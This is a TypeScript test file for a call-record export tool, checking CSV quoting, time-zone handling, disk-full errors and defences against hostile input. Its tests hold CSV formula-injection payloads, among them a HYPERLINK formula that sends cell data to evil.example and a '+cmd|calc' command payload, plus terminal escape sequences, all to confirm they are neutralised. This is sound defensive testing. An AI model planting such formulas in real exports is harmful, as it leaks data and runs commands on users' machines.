import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import type { Call } from '@cdr/core';
import { parseCall } from '@cdr/core';
import { afterEach, expect, test } from 'vitest';
import { SqliteCallStore } from '../store/sqlite/sqlite-call-store.ts';
import {
  cli,
  makeCall,
  startTestWorld,
  storedCalls,
  type TestWorld,
  temporaryDatabase,
  testNow,
} from '../testing/test-support.ts';
import { csvField, forTerminal, writeExport } from './export-calls.ts';

async function databaseWith(calls: Call[]): Promise<string> {
  const database = temporaryDatabase();
  const store = SqliteCallStore.open(database);
  await store.writeSlice({ account: 'telecmi:rest-user', calls });
  await store.close();
  return database;
}

let world: TestWorld | undefined;
afterEach(async () => {
  await world?.stop();
  world = undefined;
});

/** One CSV record (RFC 4180) into its cells, quotes undone. */
function parseCsvRow(row: string): string[] {
  return [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

test('csvField quotes what needs quoting', () => {
  expect(csvField('plain')).toBe('plain');
  expect(csvField('a,b')).toBe('"a,b"');
  expect(csvField('say "hi"')).toBe('"say ""hi"""');
  expect(csvField('two\nlines')).toBe('"two\nlines"');
  expect(csvField(12.5)).toBe('12.5');
  expect(csvField(undefined)).toBe('');
});

test('csvField defuses cells a spreadsheet would run as a formula (OWASP), and leaves numbers alone', () => {
  expect(csvField('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(
    `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
  );
  expect(csvField('@SUM(1)')).toBe("'@SUM(1)");
  expect(csvField('\t=1')).toBe("'\t=1");
  expect(csvField('\r=1')).toBe(`"'\r=1"`);
  expect(csvField('-2+3')).toBe("'-2+3");
  expect(csvField('+cmd|calc')).toBe("'+cmd|calc");
  expect(csvField('=1,2')).toBe(`"'=1,2"`);
  // A number, signed or not, cannot be a formula: E.164 numbers and negative amounts stay
  // as they are, so a spreadsheet still reads them as numbers.
  expect(csvField('+919876543210')).toBe('+919876543210');
  expect(csvField('-12.5')).toBe('-12.5');
  expect(csvField(-12.5)).toBe('-12.5');
  expect(csvField('919876543210')).toBe('919876543210');
  expect(csvField('a=1')).toBe('a=1');
});

test('NDJSON export reads back into exactly the stored calls; CSV has a row per call', async () => {
  world = await startTestWorld({ telecmi: { calls: 200 } });
  const database = temporaryDatabase();
  expect((await cli(['--db', database, 'sync', '--initial', '4d'], world.env)).exitCode).toBe(0);
  const ucids = world.ozonetel
    .calls()
    .slice(0, 5)
    .map((call) => call.ucid);
  expect(
    (await cli(['--db', database, 'lookup', '--provider', 'ozonetel', ...ucids], world.env))
      .exitCode,
  ).toBe(0);

  const stored = await storedCalls(database);
  expect(stored.length).toBeGreaterThan(100);
  expect(stored.some((call) => call.provider === 'ozonetel')).toBe(true);

  const out = join(database, '..', 'calls.ndjson');
  expect(
    (await cli(['--db', database, 'export', '--format', 'ndjson', '--out', out], {})).exitCode,
  ).toBe(0);
  const lines = readFileSync(out, 'utf8').trimEnd().split('\n');
  expect(lines.map((line) => parseCall(JSON.parse(line)))).toEqual(stored);
  // Each line names the account the call came from (the calls of `lookup` have none).
  const accounts = new Set(lines.map((line) => (JSON.parse(line) as { account: unknown }).account));
  expect([...accounts].sort()).toEqual(expect.arrayContaining(['telecmi:rest-user', 'ozonetel']));

  const csv = await cli(
    ['--db', database, 'export', '--format', 'csv', '--provider', 'telecmi'],
    {},
  );
  expect(csv.exitCode).toBe(0);
  const rows = csv.stdout.trimEnd().split('\r\n');
  expect(rows[0]).toMatch(/^provider,id,started_at,.*,account$/);
  expect(rows.length - 1).toBe(stored.filter((call) => call.provider === 'telecmi').length);
  expect(rows.slice(1).every((row) => /,telecmi:[a-z-]+$/.test(row))).toBe(true);

  // What a pipeline picks up: the calls stored or changed since a time (the sync ran at testNow).
  const since = (when: Date) =>
    cli(
      ['--db', database, 'export', '--format', 'ndjson', '--updated-since', when.toISOString()],
      {},
    );
  const before = await since(new Date(testNow.getTime() - 60_000));
  expect(before.stdout.trimEnd().split('\n')).toHaveLength(stored.length);
  const after = await since(new Date(testNow.getTime() + 60_000));
  expect(after.exitCode).toBe(0);
  expect(after.stdout).toBe('');

  const bad = await cli(['--db', database, 'export', '--format', 'xml'], {});
  expect(bad.exitCode).toBe(1);
  expect(bad.stderr).toContain("argument 'xml' is invalid");
});

test('--updated-since is read in the --tz zone, as --from is', async () => {
  const database = temporaryDatabase();
  // Stored at 04:10 and 04:20 UTC: 10:00 in Kathmandu (UTC+5:45) is 04:15 UTC between them.
  for (const [id, at] of [
    ['early', '2026-12-01T04:10:00Z'],
    ['late', '2026-12-01T04:20:00Z'],
  ] as const) {
    const store = SqliteCallStore.open(database, { now: () => Date.parse(at) });
    await store.writeSlice({ account: 'telecmi:rest-user', calls: [makeCall({ id })] });
    await store.close();
  }
  const since = (...zone: string[]) =>
    cli(
      [
        '--db',
        database,
        ...zone,
        'export',
        '--format',
        'ndjson',
        '--updated-since',
        '2026-12-01 10:00',
      ],
      {},
      { now: () => new Date('2026-12-07T00:00:00Z') },
    );
  const kathmandu = await since('--tz', 'Asia/Kathmandu');
  expect(kathmandu.exitCode, kathmandu.stderr).toBe(0);
  expect(
    kathmandu.stdout
      .trimEnd()
      .split('\n')
      .map((text) => JSON.parse(text).id),
  ).toEqual(['late']);
  // In India (UTC+5:30) the same time is 04:30 UTC, after both.
  expect((await since('--tz', 'Asia/Kolkata')).stdout).toBe('');
});

test('an export onto a full disk or into a folder says so in one line naming the file', async () => {
  const database = await databaseWith([makeCall({ id: 'a' })]);
  // /dev/full answers every write with ENOSPC: a full disk without filling one.
  const full = await cli(['--db', database, 'export', '--format', 'csv', '--out', '/dev/full'], {});
  expect(full.exitCode).toBe(1);
  expect(full.stderr).toBe('error: disk full writing /dev/full\n');
  const folder = join(database, '..');
  const intoFolder = await cli(
    ['--db', database, 'export', '--format', 'csv', '--out', folder],
    {},
  );
  expect(intoFolder.exitCode).toBe(1);
  expect(intoFolder.stderr).toBe(`error: cannot write ${folder}: it is a folder\n`);
});

test('a CSV export of hostile names and notes opens in a spreadsheet as text', async () => {
  const party = (number: string) => ({ kind: 'phone' as const, raw: number, phoneNumber: number });
  const database = await databaseWith([
    makeCall({
      id: 'hostile',
      from: party('+919876543210'),
      to: { kind: 'phone', raw: '=1+1' },
      agent: { id: '@agent', name: '=HYPERLINK("https://evil.example","x")' },
      notes: [{ text: '-2+3' }, { text: 'fine' }],
    }),
  ]);
  const run = await cli(['--db', database, 'export', '--format', 'csv'], {});
  expect(run.exitCode).toBe(0);
  const [header, row] = run.stdout.trimEnd().split('\r\n') as [string, string];
  const cells = parseCsvRow(row);
  const cell = (name: string) => cells[header.split(',').indexOf(name)];
  expect(cell('from')).toBe('+919876543210');
  expect(cell('to')).toBe("'=1+1");
  expect(cell('agent_id')).toBe("'@agent");
  expect(cell('notes')).toBe("'-2+3 | fine");
  expect(cell('agent_name')).toBe(`'=HYPERLINK("https://evil.example","x")`);
});

test('CSV on a terminal shows control characters as U+FFFD; in a file or a pipe they stay as sent', async () => {
  const hostile = makeCall({
    id: 'esc',
    agent: { id: 'a1', name: 'Red\u001b[31m team\u0007' },
  });
  const written = async (terminal: boolean) => {
    const chunks: string[] = [];
    const sink = new Writable({
      write(chunk, _encoding, done) {
        chunks.push(String(chunk));
        done();
      },
    });
    await writeExport([hostile], 'csv', sink, { terminal });
    return chunks.join('');
  };
  const shown = await written(true);
  const controls = [...shown].filter((character) => {
    const code = character.codePointAt(0)!;
    return (code < 32 && code !== 10 && code !== 13) || code === 127;
  });
  expect(controls).toEqual([]);
  expect(shown).toContain('Red\ufffd[31m team\ufffd');
  expect(shown.endsWith('\r\n')).toBe(true);
  expect(await written(false)).toContain('Red\u001b[31m team\u0007');
  // NDJSON escapes them itself, terminal or not.
  expect(forTerminal('a\r\nb\u001bc\td')).toBe('a\r\nb\ufffdc\ufffdd');
});
